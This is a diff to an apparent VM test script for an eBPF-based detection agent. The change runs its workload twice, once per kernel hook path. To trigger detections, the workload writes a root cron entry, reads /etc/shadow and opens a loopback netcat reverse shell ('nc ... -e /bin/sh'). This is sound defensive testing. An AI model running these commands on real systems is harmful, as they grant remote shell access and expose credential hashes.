@@ -5,6 +5,9 @@
 # installed binary and BPF object, a root-owned config), runs the workload,
 # stops the agent with SIGTERM, then hands everything back to the host on
 # the second serial port (/dev/ttyS1, a file on the host) and powers off.
+# The workload runs twice, once per hook path ("auto": the fast path where
+# the kernel allows it; "tracepoint": [kernel] hooks = "tracepoint"), each
+# with a fresh agent, so the host can assert the same records of both.
 # It asserts nothing: it records what it did (pids, ports, exit statuses)
 # as key=value facts, and the host (xtask/src/vm/suite.rs) checks the
 # agent's records against them with clear messages.
@@ -13,7 +16,7 @@
 #   ==RG-BEGIN <name> <bytes>==\n<bytes of the file>\n==RG-END <name>==\n
 # with the port in raw mode, so the host can check it got every byte.
 export PATH=/bin
-FACTS=/tmp/facts
+FACTS=/tmp/env.facts
 DATA=/dev/ttyS1
 
 fact() { echo "$1=$2" >>"$FACTS"; }
@@ -38,103 +41,116 @@ ip link set lo up
 hostname rg-vm
 stty -F "$DATA" raw -echo
 
-# The agent, as the unit starts it.
-start=$(cut -d' ' -f1 /proc/uptime)
-EDR_CONFIG=/etc/rand-guard/config.toml EDR_EBPF_OBJECT=/usr/local/lib/rand-guard/edr-ebpf \
-	/usr/local/bin/rand-guard run --output /tmp/out.jsonl 2>/tmp/agent.err &
-agent=$!
-fact agent_pid "$agent"
-ready=no
-i=0
-# TCG emulates the verifier too: ready 3 to 19 s after the start here;
-# 300 s before giving up.
-while [ $i -lt 600 ]; do
-	if grep -q 'rand-guard: ready' /tmp/agent.err; then
-		ready=yes
-		break
-	fi
-	kill -0 "$agent" 2>/dev/null || break
-	sleep 0.5
-	i=$((i + 1))
-done
-fact ready "$ready"
-fact ready_seconds "$(awk -v s="$start" '{ printf "%.1f", $1 - s }' /proc/uptime)"
-fact driver_pid "$$"
-
-if [ "$ready" = yes ]; then
-	# exec, fork, exit: /bin/true and a shell exiting 3.
-	/bin/true &
-	pid=$!
-	wait "$pid"
-	fact true_status "$?"
-	fact true_pid "$pid"
-	/bin/sh -c 'exit 3' &
-	pid=$!
-	wait "$pid"
-	fact exit3_status "$?"
-	fact exit3_pid "$pid"
-
-	# A file written under a watched prefix (/etc), and one in /etc/cron.d.
-	/bin/sh -c 'printf "vm-test\n" > /etc/rg-vm-file' &
-	pid=$!
-	wait "$pid"
-	fact file_pid "$pid"
-	/bin/sh -c 'printf "* * * * * root /bin/true\n" > /etc/cron.d/rg-vm-cron' &
-	pid=$!
-	wait "$pid"
-	fact cron_pid "$pid"
-
-	# A read of a watched file (watch_reads: /etc/shadow).
-	/bin/cat /etc/shadow >/dev/null &
-	pid=$!
-	wait "$pid"
-	fact read_pid "$pid"
-
-	# A loopback connect (network on) to a listener on 4444.
-	nc -l -p 4444 >/dev/null </dev/null &
-	listener=$!
-	sleep 1
-	# (at the end of its stdin nc shuts its side down; the listener
-	# then closes, and both exit)
-	echo hello | /bin/nc 127.0.0.1 4444 &
-	pid=$!
-	wait "$pid"
-	fact connect_pid "$pid"
-	kill "$listener" 2>/dev/null
-	wait "$listener" 2>/dev/null
-
-	# A reverse shell: nc connects, puts the socket on stdin and stdout
-	# and execs a shell in the same process; the "attacker" sends it a
-	# command and keeps what comes back.
-	(
-		printf 'echo rg-vm-reverse-shell-marker\nexit\n'
-		sleep 3
-	) | nc -l -p 7001 >/tmp/attacker.out &
-	attacker=$!
-	sleep 1
-	nc 127.0.0.1 7001 -e /bin/sh &
-	pid=$!
-	wait "$pid"
-	fact revshell_pid "$pid"
-	wait "$attacker" 2>/dev/null
-	fact revshell_marker "$(grep -c rg-vm-reverse-shell-marker /tmp/attacker.out)"
-
-	# Give the poller a moment, then SIGTERM: everything must be flushed.
-	sleep 1
-fi
-kill -TERM "$agent" 2>/dev/null
-wait "$agent"
-fact agent_exit "$?"
-dmesg | tail -n 40 >/tmp/dmesg.tail
-
 emit() {
 	printf '\n==RG-BEGIN %s %s==\n' "$1" "$(wc -c <"$2")" >"$DATA"
 	cat "$2" >"$DATA"
 	printf '\n==RG-END %s==\n' "$1" >"$DATA"
 }
-emit facts "$FACTS"
-emit stderr /tmp/agent.err
-emit records /tmp/out.jsonl
+# One pass: $1 names it (its sections' suffix), $2 is the agent's config.
+pass() {
+	OUT=/tmp/$1
+	CONFIG=$2
+	FACTS=$OUT/facts
+	mkdir -p "$OUT"
+	cp /tmp/env.facts "$FACTS"
+	fact pass "$1"
+	# The agent, as the unit starts it.
+	start=$(cut -d' ' -f1 /proc/uptime)
+	EDR_CONFIG="$CONFIG" EDR_EBPF_OBJECT=/usr/local/lib/rand-guard/edr-ebpf \
+		/usr/local/bin/rand-guard run --output "$OUT/out.jsonl" 2>"$OUT/agent.err" &
+	agent=$!
+	fact agent_pid "$agent"
+	ready=no
+	i=0
+	# TCG emulates the verifier too: ready 3 to 19 s after the start here;
+	# 300 s before giving up.
+	while [ $i -lt 600 ]; do
+		if grep -q 'rand-guard: ready' "$OUT/agent.err"; then
+			ready=yes
+			break
+		fi
+		kill -0 "$agent" 2>/dev/null || break
+		sleep 0.5
+		i=$((i + 1))
+	done
+	fact ready "$ready"
+	fact ready_seconds "$(awk -v s="$start" '{ printf "%.1f", $1 - s }' /proc/uptime)"
+	fact driver_pid "$$"
+
+	if [ "$ready" = yes ]; then
+		# exec, fork, exit: /bin/true and a shell exiting 3.
+		/bin/true &
+		pid=$!
+		wait "$pid"
+		fact true_status "$?"
+		fact true_pid "$pid"
+		/bin/sh -c 'exit 3' &
+		pid=$!
+		wait "$pid"
+		fact exit3_status "$?"
+		fact exit3_pid "$pid"
+
+		# A file written under a watched prefix (/etc), and one in /etc/cron.d.
+		/bin/sh -c 'printf "vm-test\n" > /etc/rg-vm-file' &
+		pid=$!
+		wait "$pid"
+		fact file_pid "$pid"
+		/bin/sh -c 'printf "* * * * * root /bin/true\n" > /etc/cron.d/rg-vm-cron' &
+		pid=$!
+		wait "$pid"
+		fact cron_pid "$pid"
+
+		# A read of a watched file (watch_reads: /etc/shadow).
+		/bin/cat /etc/shadow >/dev/null &
+		pid=$!
+		wait "$pid"
+		fact read_pid "$pid"
+
+		# A loopback connect (network on) to a listener on 4444.
+		nc -l -p 4444 >/dev/null </dev/null &
+		listener=$!
+		sleep 1
+		# (at the end of its stdin nc shuts its side down; the listener
+		# then closes, and both exit)
+		echo hello | /bin/nc 127.0.0.1 4444 &
+		pid=$!
+		wait "$pid"
+		fact connect_pid "$pid"
+		kill "$listener" 2>/dev/null
+		wait "$listener" 2>/dev/null
+
+		# A reverse shell: nc connects, puts the socket on stdin and stdout
+		# and execs a shell in the same process; the "attacker" sends it a
+		# command and keeps what comes back.
+		(
+			printf 'echo rg-vm-reverse-shell-marker\nexit\n'
+			sleep 3
+		) | nc -l -p 7001 >"$OUT/attacker.out" &
+		attacker=$!
+		sleep 1
+		nc 127.0.0.1 7001 -e /bin/sh &
+		pid=$!
+		wait "$pid"
+		fact revshell_pid "$pid"
+		wait "$attacker" 2>/dev/null
+		fact revshell_marker "$(grep -c rg-vm-reverse-shell-marker "$OUT/attacker.out")"
+
+		# Give the poller a moment, then SIGTERM: everything must be flushed.
+		sleep 1
+	fi
+	kill -TERM "$agent" 2>/dev/null
+	wait "$agent"
+	fact agent_exit "$?"
+}
+
+pass auto /etc/rand-guard/config.toml
+pass tracepoint /etc/rand-guard/tracepoint.toml
+dmesg | tail -n 40 >/tmp/dmesg.tail
+for p in auto tracepoint; do
+	emit "facts-$p" "/tmp/$p/facts"
+	emit "stderr-$p" "/tmp/$p/agent.err"
+	emit "records-$p" "/tmp/$p/out.jsonl"
+done
 emit dmesg /tmp/dmesg.tail
 printf '\n==RG-DONE==\n' >"$DATA"
 sync
